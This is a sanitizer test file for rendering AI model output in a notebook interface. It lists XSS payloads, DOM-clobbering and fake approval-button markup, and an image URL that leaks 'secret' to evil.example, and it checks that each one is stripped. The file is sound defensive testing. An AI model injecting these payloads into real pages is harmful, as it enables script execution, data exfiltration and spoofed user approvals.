import { describe, expect, it } from 'vitest';

import { sanitizer as create } from '../support/services';

const sanitizer = create();

function clean(html: string): HTMLElement {
  const host = document.createElement('div');
  host.innerHTML = sanitizer.sanitize(html);
  return host;
}

describe('what a model says', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<svg onload=alert(1)><script>1</script></svg>',
    '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
    '<iframe srcdoc="<script>1</script>"></iframe>',
    '<form action="/x"><input name=a><button>Go</button></form>',
    '<button data-commandlinker-command="notebook:run-all">x</button>',
    '<div data-commandlinker-command="x" onclick="1" id="main" name="y" style="position:fixed">x</div>',
    '<style>body{display:none}</style>',
    '<link rel=stylesheet href=//evil>',
    '<base href=//evil>',
    '<object data=//evil></object>',
    '<video src=//evil autoplay></video>',
    '<a href="x" ping="//evil">x</a>',
    '<span class="jp-llmhub-button jp-mod-accept" data-testid="llmhub-approve" role="button" tabindex="0">Allow</span>',
    '<a id="jupyterapp" name="jupyterapp">x</a><img name="body" src="blob:http://localhost/1">',
    '<input type="image" src="//evil">',
    '<div popover class="jp-Dialog jp-llmhub-load" role="alert" aria-label="x" data-host="a">x</div>',
    '<a class="jp-llmhub-file-link" data-path="/etc/passwd">x</a>',
    '<textarea autofocus onfocus=alert(1)><img src=x onerror=alert(1)></textarea>'
  ])('does nothing: %s', html => {
    const host = clean(html);
    const all = [...host.querySelectorAll('*')];
    expect(
      all.filter(node =>
        /^(script|svg|math|iframe|form|button|style|link|base|object|video)$/i.test(node.tagName)
      )
    ).toEqual([]);
    const names = all.flatMap(node => [...node.attributes].map(attribute => attribute.name));
    expect(
      names.filter(name =>
        /^(on|tabindex|data-(?!host|path)|id$|name$|style$|ping$|srcset$|formaction$|popover|role$|aria-)/.test(
          name
        )
      )
    ).toEqual([]);
    expect(all.filter(node => /^\s*javascript:/i.test(node.getAttribute('href') ?? ''))).toEqual([]);
    expect(host.querySelector('img[src], input[src]')).toBeNull();
    expect(host.querySelector('[class*="jp-mod"], .jp-llmhub-button, .jp-Dialog')).toBeNull();
  });

  it('fetches no image from elsewhere; its host and a button stand in its place', () => {
    const host = clean(
      '<p><img src="https://evil.example/?q=secret" alt="a plot" srcset="https://evil.example 2x"></p>'
    );
    expect(host.querySelector('img')).toBeNull();
    expect(host.textContent).toBe('Image: a plotLoad images from evil.example');
    expect(host.querySelector('button')?.dataset['host']).toBe('evil.example');
  });

  it('shows the images of a host that a person asked for, and of no other', () => {
    const host = document.createElement('div');
    const source =
      '<img src="https://good.example/a.png"><img src="https://good.example.evil.example/b.png">';
    host.append(sanitizer.clean(source, name => name === 'good.example'));
    const image = host.querySelector('img');
    expect(image?.src).toBe('https://good.example/a.png');
    expect(image?.referrerPolicy).toBe('no-referrer');
    expect(host.querySelectorAll('img')).toHaveLength(1);
  });

  it('keeps an image that is in the message itself', () => {
    const source = 'data:image/png;base64,iVBORw0KGgo=';
    expect(clean(`<img src="${source}" alt="x">`).querySelector('img')?.getAttribute('src')).toBe(source);
    expect(clean('<img src="data:image/svg+xml;base64,PHN2Zz4=">').querySelector('img')).toBeNull();
  });

  it('keeps what Markdown makes', () => {
    const html =
      '<h2>a</h2><p><strong>b</strong> <code class="language-x">c</code></p><ul><li><input type="checkbox" checked> d</li></ul>';
    const host = clean(html + '<table><thead><tr><th align="left">e</th></tr></thead></table>');
    expect(host.querySelectorAll('h2, strong, code, li, th')).toHaveLength(5);
    expect(host.querySelector('input')?.disabled).toBe(true);
  });

  it('opens links in a tab of their own, and says where they lead', () => {
    const link = clean('<a href="https://example.org/\u202Egnp.exe" title="a title">x</a>').querySelector(
      'a'
    );
    expect([link?.target, link?.rel]).toEqual(['_blank', 'noopener noreferrer']);
    expect(link?.title).toBe('https://example.org/%E2%80%AEgnp.exe\na title');
  });

  it.each([
    ['https://google.com@evil.example/', 'https://evil.example/'],
    ['HTTP://EX.example', 'http://ex.example/'],
    ['http://xn--pple-43d.com/', 'http://xn--pple-43d.com/'],
    ['http://\u0430pple.com/', 'http://xn--pple-43d.com/'],
    ['mailto:a@b.example', 'mailto:a@b.example']
  ])('%s leads to %s', (address, url) => {
    const link = clean(`<a href="${address}">x</a>`).querySelector('a');
    expect(link?.getAttribute('href')).toBe(url);
  });

  it.each(
    'javascript:1 ftp://a tel:1 //evil.example /lab #x data:text/html,x a:b http:evil ..\\x.py ../x.py a/../../x.py x'.split(
      ' '
    )
  )('%s is no link', address => {
    const host = clean(`<a href="${address}">words</a>`);
    expect(host.querySelector('[href], button')).toBeNull();
    expect(host.textContent).toBe('words');
  });

  it('a path in the workspace is a button', () => {
    const button = clean('<a href="./data/my%20table.csv#L3">x</a>').querySelector('button');
    expect(button?.dataset['path']).toBe('data/my table.csv');
  });
});
